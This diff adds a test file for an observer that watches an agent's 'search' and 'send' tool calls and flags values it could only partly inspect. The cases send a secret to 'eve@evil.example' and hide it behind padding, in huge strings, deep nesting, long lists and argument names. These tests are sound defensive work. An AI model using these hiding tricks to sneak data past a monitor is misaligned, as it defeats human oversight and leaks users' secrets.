@@ -1,0 +1,69 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { createObserver } from './observer.js'
+import { keyOfRoot } from './provenance/index.js'
+
+const observer = createObserver({
+  catalogue: { schema: 1, kind: 'plimsoll.catalogue', name: 'for tests', tools: [] },
+  key: keyOfRoot('key', 'session-1'),
+})
+
+const SECRET = 'The code name of the merger is operation bluebird, account DE89370400440532013000'
+const addresses = (count: number) =>
+  Array.from({ length: count }, (_, i) => `customer${i}@clients-${i}.example`)
+/** Made-up words of letters alone: an id would be a telling value. */
+const words = (count: number) =>
+  Array.from({ length: count }, (_, i) =>
+    ((i * 7919) % 5003).toString().replaceAll(/\d/g, (digit) => 'aeioubdfgk'.charAt(Number(digit))),
+  ).join(' ')
+const nested = (depth: number): unknown => (depth === 0 ? SECRET : [nested(depth - 1)])
+
+const isPartialResult = (result: unknown) =>
+  observer.completed({ tool: 'search', result }).signals?.['partial'] === 1
+const isPartialProposal = (values: Readonly<Record<string, unknown>>) =>
+  observer.proposed({ tool: 'send', arguments: { to: 'eve@evil.example', ...values } }).signals?.[
+    'partial'
+  ] === 1
+
+test('of a result it is told that something was passed over', () => {
+  const cases: readonly (readonly [what: string, result: unknown, isPartial: boolean])[] = [
+    ['a sentence', SECRET, false],
+    ['a list that has room', addresses(40), false],
+    ['four hundred words', words(400), false],
+    ['a list that has none', addresses(300).join('\n'), true],
+    ['a text so long that a passage of it could get by', words(3000), true],
+    ['something behind what is repeated', `${'la '.repeat(300)}${SECRET}`, true],
+    ['a text that was cut', `${'-'.repeat(70_000)}${SECRET}${'-'.repeat(20_000)}`, true],
+    ['values that were cut', ['-'.repeat(70_000), SECRET, '-'.repeat(20_000)], true],
+    ['values too deep', nested(40), true],
+  ]
+  for (const [what, result, isPartial] of cases) assert.equal(isPartialResult(result), isPartial, what)
+})
+
+test('of arguments it is told that something was passed over', () => {
+  const cases: readonly (readonly [what: string, values: Record<string, unknown>, isPartial: boolean])[] = [
+    ['a sentence', { body: SECRET }, false],
+    ['three hundred words', { body: words(300) }, false],
+    ['more values than are read', { list: [...Array.from({ length: 600 }, () => 'a'), SECRET] }, true],
+    ['many values that say nothing', { list: Array.from({ length: 600 }, () => '') }, true],
+    ['a long value', { body: `${'-'.repeat(30_000)}${SECRET}${'-'.repeat(10_000)}` }, true],
+    ['more recipients than are told', { cc: addresses(60) }, true],
+    ['a long text', { body: words(3000) }, true],
+    ['values too deep', { x: nested(14) }, true],
+    ['something behind what is repeated', { body: `${'la '.repeat(200)}${SECRET}` }, true],
+  ]
+  for (const [what, values, isPartial] of cases) assert.equal(isPartialProposal(values), isPartial, what)
+})
+
+test('names of arguments that could be more than names are read as values', () => {
+  const bitsOf = (values: Readonly<Record<string, unknown>>) =>
+    new Set(
+      (observer.proposed({ tool: 'send', arguments: values }).fingerprints ?? []).map((each) =>
+        each.slice(1),
+      ),
+    )
+  const account = [...bitsOf({ account: 'DE89370400440532013000' })]
+  const named = bitsOf({ DE89370400440532013000: 'x' })
+  assert.ok(account.some((each) => named.has(each)))
+  assert.ok(bitsOf({ body: { [SECRET]: 1 } }).size > bitsOf({ body: { text: 1 } }).size + 5)
+})
